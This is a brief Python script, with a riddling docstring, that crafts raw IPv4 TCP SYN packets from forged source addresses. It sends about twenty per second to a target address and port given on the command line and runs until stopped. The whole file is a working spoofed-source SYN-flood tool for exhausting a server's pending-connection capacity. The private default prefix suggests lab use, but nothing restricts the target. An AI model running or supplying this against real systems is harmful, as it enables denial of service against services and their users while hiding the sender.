"""First packets from addresses that are nobody's, twenty of them each second: who is asked waits for each in vain.

Arguments: the address and port that are asked, the beginning of the addresses that ask (`10.10.1.`).
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time


def _sum(data: bytes) -> int:
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def main() -> None:
    """Until it is ended."""
    address, port, begins = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(10**9):
        source = socket.inet_aton(f"{begins}{100 + number % 100}")
        there = socket.inet_aton(address)
        first = (random.randrange(1024, 65535), port, random.randrange(2**32), 0, 5 << 12 | 2, 64240)
        blank = struct.pack(">HHIIHHHH", *first, 0, 0)
        tcp = struct.pack(">HHIIHHHH", *first, _sum(source + there + struct.pack(">HH", 6, 20) + blank), 0)
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 40, number & 0xFFFF, 0, 64, 6, 0, source, there)
        raw.sendto(head + tcp, (address, 0))
        time.sleep(0.05)


if __name__ == "__main__":
    main()
